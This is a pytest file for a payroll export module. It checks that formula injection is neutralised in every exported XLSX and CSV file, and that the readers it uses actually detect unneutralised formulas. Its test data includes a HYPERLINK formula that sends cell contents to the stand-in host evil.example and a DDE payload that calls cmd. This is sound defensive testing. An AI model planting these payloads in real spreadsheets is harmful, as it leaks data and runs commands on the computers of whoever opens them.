"""Formula injection: nothing an employer typed becomes a formula in any file of an export.

Drafts whose every text (employee number and name, description, dates that are not dates, the
source sentence, a field name, the type, the employer's own Nmbrs codes) starts with `=`, `+`,
`-`, `@`, a tab or a carriage return go through `export_period`; every cell of every file it
writes (and rebuilds, and the dashboard hands out) is then read back: no formula cell, and no
text that starts with one of those characters.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine
from sqlmodel import Session

from tests.dashboard.conftest import Dashboard, seeded_dashboard
from workflows.export import FORMULA_PREFIXES, export_period, rebuild_export, set_export_code
from workflows.models import DraftRow, DraftStatus

EMPLOYER, PERIOD = "garage-hoek", "2026-03"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'
DDE = "=cmd|' /C calc'!A0"
# (type, employee number, employee name, fields, source text)
HOSTILE_DRAFTS = [
    ("hours", "-1+1", "@SUM(1)", {"hours": 8, "kind": "worked", "period": PERIOD}, "+1+1"),
    ("hours", "72", "Priya Ramdin", {"hours": 2, "kind": "overtime", "rate_percentage": 125, "period": PERIOD}, None),
    ("one_off_payment", "=1+1", "\t=1+1", {"amount": 100, "description": HYPERLINK, "period": PERIOD}, DDE),
    ("expense", "72", "\r=1+1", {"amount": 12.5, "description": "+1+1", "period": PERIOD}, "-2+3"),
    ("expense", "73", "-2+3", {"amount": -5, "description": "@SUM(A1:A9)", "period": PERIOD}, "\x01=1+1"),
    ("expense", None, "=1+2", {"description": "=no amount", "period": PERIOD}, "@x"),  # to the worklist
    ("sick", "@1", DDE, {"start_date": "=1+1", "percentage": 100}, "=HYPERLINK(\"x\")"),
    ("hire", "74", "+SUM(1)", {"start_date": "2026-03-01", "job_title": "=evil", "email": "@x"}, "\t-1"),
    ("recovery", "75", "\x07=1+1", {"=x": 1}, "\r\n=1+1"),
    ("=evil()", "76", "=1", {"date": "+1"}, "-1"),
]
# The employer's own codes end up as column headers and cells; their pattern allows a leading '-'.
HOSTILE_CODES = {"hours:worked": "-1-1", "hours:overtime": "-2-2", "one_off_payment": "-3-3", "expense": "-4-4"}


def is_formula_text(value: str) -> bool:
    return value.startswith(TRIGGERS)


@pytest.fixture
def board(engine: Engine, data_dir: Path) -> Dashboard:
    board = seeded_dashboard(engine, data_dir)  # its own drafts stay new: only the ones below are approved
    with Session(engine) as session:
        for mutation_type, number, name, fields, source in HOSTILE_DRAFTS:
            session.add(DraftRow(employer_id=EMPLOYER, type=mutation_type, employee_id=number, employee_name=name,
                                 fields=fields, source={"part": "body", "location": "line 1", "text": source},
                                 confidence=0.9, status=DraftStatus.APPROVED, period=PERIOD))
        session.commit()
    for kind, code in HOSTILE_CODES.items():
        set_export_code(engine, EMPLOYER, kind, code, "test")
    return board


def xlsx_cells(content: bytes) -> list[tuple[str, object, str]]:
    """(where, value, data type) of every cell of every sheet, read back with openpyxl."""
    book = load_workbook(io.BytesIO(content))
    return [(f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def xlsx_formula_elements(content: bytes) -> list[str]:
    """<f> elements in the sheet XML itself: a formula, whatever a reader library makes of it."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [name for name in archive.namelist() if name.startswith("xl/worksheets/")
                and re.search(rb"<(?:\w+:)?f[\s>/]", archive.read(name))]


def csv_cells(content: bytes) -> list[tuple[str, str]]:
    text = content.decode("utf-8-sig")
    return [(f"row {r + 1} col {c + 1}", value) for r, row in enumerate(csv.reader(io.StringIO(text), delimiter=";"))
            for c, value in enumerate(row)]


def injection_problems(name: str, content: bytes) -> tuple[list[str], list[str]]:
    """(problems, every text cell) of one export file; a kind of file this test cannot read is a problem."""
    found: list[str] = []
    texts: list[str] = []
    if name.endswith(".xlsx"):
        found += [f"{name}: formula XML in {part}" for part in xlsx_formula_elements(content)]
        for where, value, data_type in xlsx_cells(content):
            if data_type == "f":
                found.append(f"{name} {where}: formula cell {value!r}")
            elif isinstance(value, str):
                texts.append(value)
                if is_formula_text(value):
                    found.append(f"{name} {where}: {value!r}")
    elif name.endswith(".csv"):
        for where, value in csv_cells(content):
            texts.append(value)
            if is_formula_text(value):
                found.append(f"{name} {where}: {value!r}")
    else:
        found.append(f"{name}: an export file of a kind this test does not read; add it here")
    return found, texts


def test_the_module_neutralises_at_least_the_characters_this_test_tries():
    assert set(TRIGGERS) <= set(FORMULA_PREFIXES)


def test_no_cell_of_any_exported_file_is_a_formula(board: Dashboard):
    result = export_period(board.engine, EMPLOYER, PERIOD, "test")
    assert len(result.draft_ids) == len(HOSTILE_DRAFTS)
    kinds = {re.sub(rf"-{EMPLOYER}-{PERIOD}", "", name) for name in result.files}
    assert kinds == {"uren.xlsx", "looncomponenten.xlsx", "werklijst.xlsx", "werklijst.csv"}, kinds
    all_texts: list[str] = []
    problems: list[str] = []
    for name, content in result.files.items():
        found, texts = injection_problems(name, content)
        problems += found
        all_texts += texts
        # Every kind of file really received hostile text, neutralised: the check above had work to do.
        assert any(t.startswith("'") and t[1:2] in TRIGGERS for t in texts), (name, texts)
    assert problems == []
    shown = "\n".join(all_texts)
    for text in (HYPERLINK, DDE, "+1+1", "@SUM(A1:A9)", "-1-1", "-3-3", "=evil()", "=1+1"):
        assert "'" + text in shown, f"{text!r} is not in any file (neutralised)"


def test_a_rebuilt_export_and_the_dashboard_download_are_the_same_neutralised_files(board: Dashboard):
    result = export_period(board.engine, EMPLOYER, PERIOD, "test")
    assert rebuild_export(board.engine, result.batch_id) == result.files
    bureau = board.login("bureau")
    for name, content in result.files.items():
        answer = bureau.get(f"/exports/{result.batch_id}/files/{name}")
        assert answer.status_code == 200 and answer.content == content
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-disposition"] == f'attachment; filename="{name}"'
        assert injection_problems(name, answer.content)[0] == []


def test_the_checks_see_a_formula_when_one_is_written():
    """The readers above must notice an unneutralised cell, in both file kinds."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["ok", "=1+1", "@SUM(1)"])
    out = io.BytesIO()
    book.save(out)
    found, _ = injection_problems("x.xlsx", out.getvalue())
    assert any("formula cell" in f for f in found) and any("formula XML" in f for f in found)
    assert any("@SUM(1)" in f for f in found)
    assert injection_problems("x.csv", "\ufeffa;+1+1;'=1\r\n".encode())[0] == ["x.csv row 1 col 2: '+1+1'"]
    assert injection_problems("x.pdf", b"")[0]
